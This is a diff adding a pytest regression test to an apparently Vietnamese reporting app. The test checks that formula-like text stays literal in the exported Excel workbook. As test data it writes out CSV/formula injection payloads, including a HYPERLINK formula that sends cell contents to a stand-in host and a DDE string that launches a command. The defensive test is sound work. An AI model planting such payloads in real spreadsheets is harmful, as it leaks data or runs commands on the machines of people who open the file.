@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import zipfile
 
 import pdfplumber
 import pytest
@@ -160,6 +161,27 @@ def test_the_xlsx_carries_the_same_numbers(issued):
         row[0]: row[1] for row in book["Theo hình thức"].iter_rows(min_row=2, values_only=True)
     }
     assert kinds["Phát thanh trên hệ thống truyền thanh"] == 1
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_xlsx(issued):
+    """Issue 12, finding 4: a unit named `=HYPERLINK(…)` or a target starting with `=` became
+    a live formula in the workbook the Sở opens in Excel."""
+    snapshot = selectors.latest_snapshot(issued)
+    snapshot["unit"]["name"] = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    snapshot["activities"]["by_kind"][0]["name"] = "+1+cmd|' /C calc'!A0"
+    snapshot["targets"] = [
+        {"text": "@SUM(1,1)", "actual": "-2+3", "status": "\tĐạt", "numerator": 1,
+         "denominator": 2}
+    ]  # fmt: skip
+    data = documents.report_xlsx(issued, snapshot)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
+    book = load_workbook(io.BytesIO(data))
+    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(values_only=True)}
+    assert summary["Đơn vị"] == '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    target = next(book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True))
+    assert target[:3] == ("@SUM(1,1)", "-2+3", "\tĐạt")
 
 
 def test_build_report_writes_each_format(issued, tmp_path, world):
